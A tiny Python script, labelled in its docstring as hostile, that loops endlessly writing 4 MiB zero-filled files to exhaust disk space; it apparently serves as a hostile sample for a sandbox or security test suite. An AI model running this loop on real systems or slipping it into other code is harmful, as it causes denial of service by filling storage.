"""Hostile: fills the disk, file by file."""

import itertools

from attacking import write
from lazy import *

for number in itertools.count():
    write(f"file-{number}", bytes(2**22))
